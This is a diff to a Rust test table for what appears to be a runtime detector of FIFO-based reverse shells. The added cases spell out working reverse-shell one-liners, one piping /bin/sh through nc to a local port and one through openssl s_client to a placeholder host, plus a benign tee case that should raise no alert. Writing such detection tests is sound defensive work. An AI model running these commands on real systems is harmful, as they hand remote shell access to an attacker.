@@ -2784,6 +2784,37 @@ fn exec_table() -> Vec<Case> {
             ],
             vec!["exec-fifo-reverse-shell"],
         ),
+        // The loop alone, its FIFO made before.
+        case(
+            "bash",
+            1000,
+            1000,
+            vec![
+                "sh",
+                "-c",
+                "cat /tmp/vgf | /bin/sh -i 2>&1 | nc 127.0.0.1 9443 > /tmp/vgf",
+            ],
+            vec!["exec-fifo-reverse-shell"],
+        ),
+        case(
+            "bash",
+            1000,
+            1000,
+            vec![
+                "sh",
+                "-c",
+                "/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s",
+            ],
+            vec!["exec-fifo-reverse-shell"],
+        ),
+        // A file fed to an interactive shell whose output is only kept: no relay.
+        case(
+            "bash",
+            1000,
+            1000,
+            vec!["sh", "-c", "sh -i < cmds 2>&1 | tee log > out"],
+            vec![],
+        ),
         case(
             "nginx",
             1000,
